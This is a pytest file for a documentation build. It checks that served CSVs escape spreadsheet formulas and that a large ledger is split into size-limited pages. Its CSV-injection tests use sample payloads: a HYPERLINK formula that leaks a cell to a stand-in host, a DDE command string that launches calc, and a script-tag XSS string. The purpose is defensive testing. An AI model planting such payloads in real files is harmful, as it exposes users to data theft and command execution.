"""What the built book serves besides its pages: CSVs a spreadsheet cannot run, and a ledger
browser that stays a few megabytes a page however big the ledger grows."""

from __future__ import annotations

import csv
import io
import random
from collections import Counter

import pandas as pd
import pytest

import airaces
from airaces.sphinx import ledger as ledger_ext
from airaces.sphinx.figures import _PLAIN_NUMBER, FORMULA_PREFIXES, neutralise, to_csv

# ---------------------------------------------------------------- CSV injection

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"Click for details")'


def served_safely(cell: str) -> bool:
    """A parsed CSV cell a spreadsheet will not run: it starts with no formula prefix, or is a plain number."""
    return (
        not cell.startswith(FORMULA_PREFIXES)
        or _PLAIN_NUMBER.fullmatch(cell) is not None
    )


@pytest.mark.parametrize(
    "text",
    [
        HYPERLINK,
        "+1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+",
        "--3",
        "-3.5 USD",
        "-inf",
        "=",
        "@",
    ],
)
def test_text_that_starts_like_a_formula_gets_a_quote(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-3.5", "+2", "-12", "1e5", "-0.25e-3", ".5", "-.5", "7."]
)
def test_plain_decimal_numbers_written_as_text_are_kept(value):
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-3.5, 7, 0, -1e20, 2.5e-3])
def test_numbers_stay_numbers(value):
    assert neutralise(value) == value and type(neutralise(value)) is type(value)


@pytest.mark.parametrize(
    "value, served",
    [
        (None, ""),
        ("", ""),
        ("compute", "compute"),
        ("'No' recorded", "'No' recorded"),
        (float("-inf"), "'-inf"),
        (float("nan"), "nan"),
        (True, "True"),
    ],
)
def test_everything_else_is_text_and_only_formulas_change(value, served):
    assert neutralise(value) == served


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_a_figure_csv_from_data_holding_a_hyperlink_formula_comes_out_neutralised():
    table = {
        "id": "test",
        "columns": ["claim_id", "as_printed", "value", "note", "=header"],
        "rows": [
            ["x-1", HYPERLINK, -3.5, "@cmd", "a;=1+1"],
            ["x-2", "\t=1+1", -12, None, "-3.5"],
        ],
    }
    text = to_csv(table)
    rows = parse(text)
    assert rows[0][-1] == "'=header"
    assert rows[1] == ["x-1", "'" + HYPERLINK, "-3.5", "'@cmd", "a;=1+1"]
    assert rows[2] == ["x-2", "'\t=1+1", "-12", "", "-3.5"]
    assert all(served_safely(cell) for row in rows for cell in row)
    # Every text cell is quoted, so a ";" cannot start a new cell where ";" separates cells.
    assert '"a;=1+1"' in text and ",-3.5," in text


def test_neutralising_round_trips_any_text():
    # A property test by hand (Hypothesis is not installed): random cells from an alphabet
    # heavy in prefixes, signs, digits and CSV's own special characters.
    alphabet = list("=+-@\t\r\n0123456789.eE,;\"' aZ") + ["HYPERLINK(", "é", "\u2212"]
    rng = random.Random(20260101)
    cells = [
        "".join(rng.choice(alphabet) for _ in range(rng.randint(0, 8)))
        for _ in range(5000)
    ]
    table = {"id": "fuzz", "columns": ["cell"], "rows": [[c] for c in cells]}
    parsed = [row[0] if row else "" for row in parse(to_csv(table))[1:]]
    assert len(parsed) == len(cells)
    for original, served in zip(cells, parsed):
        assert served_safely(served), repr(original)
        assert served in (original, "'" + original), repr(original)
        assert (served == original) == (
            not original.startswith(FORMULA_PREFIXES)
            or _PLAIN_NUMBER.fullmatch(original) is not None
        ), repr(original)


def test_the_book_serves_no_csv_but_the_figures_and_the_ledger_and_none_can_run(
    built_book,
):
    """The figures' data and the ledger's tables (the Data page's downloads) are the only CSVs served."""
    served = sorted(built_book.rglob("*.csv"))
    assert served, "the build wrote no figure CSV"
    assert all(
        p.parent in (built_book / "_static" / "figure-data", built_book / "data")
        for p in served
    ), served
    for path in served:
        rows = parse(path.read_text(encoding="utf-8"))
        unsafe = [cell for row in rows for cell in row if not served_safely(cell)]
        assert not unsafe, f"{path.name}: {unsafe[:5]}"


# ---------------------------------------------------------------- the ledger at scale

BIG = 150_000


@pytest.fixture(scope="module")
def ledger():
    return airaces.load()


@pytest.fixture(scope="module")
def big_claims(ledger) -> pd.DataFrame:
    """150,000 valid claims: the real ones, repeated under new ids."""
    claims = ledger.claims
    copies = -(-BIG // len(claims))
    frame = pd.concat([claims] * copies, ignore_index=True).iloc[:BIG].copy()
    frame["claim_id"] = pd.array(
        [f"{i}-c{n // len(claims)}" for n, i in enumerate(frame["claim_id"])],
        dtype="string",
    )
    return frame


@pytest.fixture(scope="module")
def big_layout(big_claims) -> ledger_ext.TableLayout:
    return ledger_ext.table_layout("claims", big_claims)


def test_the_committed_ledger_stays_whole_on_the_ledger_page(ledger):
    layouts = ledger_ext.ledger_layouts()
    assert not any(layout.split for layout in layouts.values())
    for name, layout in layouts.items():
        assert layout.inline == ledger_ext.browser_table(name, getattr(ledger, name))


def test_a_big_table_is_split_into_pages_within_budget(big_layout):
    assert big_layout.split and big_layout.rows == BIG and big_layout.inline is None
    sizes = [len(page.html.encode("utf-8")) for page in big_layout.pages]
    assert max(sizes) <= ledger_ext.TABLE_BUDGET
    assert (
        sum(sizes) > 10 * ledger_ext.TABLE_BUDGET
    )  # a real test of scale, not of a few pages
    assert len({page.slug for page in big_layout.pages}) == len(big_layout.pages)


def test_every_row_is_on_exactly_one_page_and_every_id_has_its_page(
    big_layout, big_claims
):
    counts = Counter(row_id for page in big_layout.pages for row_id in page.ids)
    assert set(counts) == set(big_claims["claim_id"]) and set(counts.values()) == {1}
    page_of_id = ledger_ext.page_of_each_id(big_layout)
    assert len(page_of_id) == BIG
    slugs = {page.slug: page for page in big_layout.pages}
    for row_id in big_claims["claim_id"].iloc[::997]:
        assert f'<tr id="{row_id}">' in slugs[page_of_id[row_id]].html


def test_a_split_table_is_paged_by_theme(big_layout, big_claims):
    theme_of = dict(zip(big_claims["claim_id"], big_claims["theme"]))
    for page in big_layout.pages:
        themes = {theme_of[i] for i in page.ids}
        assert len(themes) == 1 and page.slug.startswith(f"claims-{themes.pop()}-"), (
            page.slug
        )


def test_rows_keep_their_escaping_on_sub_pages(big_claims):
    frame = big_claims.iloc[:2000].copy()
    frame["as_printed"] = pd.array(
        ["<script>alert(1)</script>"] * len(frame), dtype="string"
    )
    layout = ledger_ext.table_layout("claims", frame, budget=100_000)
    assert layout.split and len(layout.pages) > 2
    for page in layout.pages:
        assert (
            "<script>" not in page.html
            and "&lt;script&gt;alert(1)&lt;/script&gt;" in page.html
        )


def test_chunks_fill_to_the_budget_and_a_row_over_it_stands_alone():
    assert ledger_ext.chunks([4, 4, 4, 9, 1, 1], budget=8) == [
        range(0, 2),
        range(2, 3),
        range(3, 4),
        range(4, 6),
    ]
    assert ledger_ext.chunks([], budget=8) == []


def test_figure_links_follow_their_row_to_its_sub_page(big_layout):
    page = big_layout.pages[3]
    row_id = page.ids[5]
    page_of_id = ledger_ext.page_of_each_id(big_layout)
    body = (
        f'<a class="airaces-ledger-link" href="../book/ledger.html#{row_id}">{row_id}</a> '
        f'<a href="../book/ledger.html#not-a-row">x</a> <a href="../book/ledger.html">The ledger</a>'
    )
    rewritten = ledger_ext.rewrite_ledger_links(
        body,
        "../book/ledger.html",
        lambda slug: f"../book/ledger-{slug}.html",
        page_of_id,
    )
    assert f'href="../book/ledger-{page.slug}.html#{row_id}"' in rewritten
    assert (
        'href="../book/ledger.html#not-a-row"' in rewritten
        and 'href="../book/ledger.html">' in rewritten
    )


def test_the_ledger_page_lists_every_sub_page(big_layout):
    index = ledger_ext.index_html(big_layout, "book/ledger")
    for page in big_layout.pages:
        assert f'href="ledger-{page.slug}.html"' in index
    assert len(index.encode("utf-8")) < 100_000


def test_five_tables_at_their_budget_still_fit_one_page():
    assert (
        len(ledger_ext.BROWSER_COLUMNS) * ledger_ext.TABLE_BUDGET < 5_000_000 - 500_000
    )


def test_the_served_book_is_compressed_for_a_browser_that_asks(built_book):
    """`make serve` (and a Lighthouse run against it) gets text gzipped, as a static host sends it."""
    import gzip
    import urllib.request

    from airaces.build import browser as pages

    with pages.serve(built_book, compress=True) as base:
        asked = urllib.request.Request(
            base + "book/methods.html", headers={"Accept-Encoding": "gzip"}
        )
        with urllib.request.urlopen(asked) as reply:
            assert reply.headers["Content-Encoding"] == "gzip"
            page = gzip.decompress(reply.read())
        with urllib.request.urlopen(
            base + "book/methods.html"
        ) as plain:  # no gzip asked for, none sent
            assert (
                plain.headers.get("Content-Encoding") is None and plain.read() == page
            )
    assert page == (built_book / "book" / "methods.html").read_bytes()
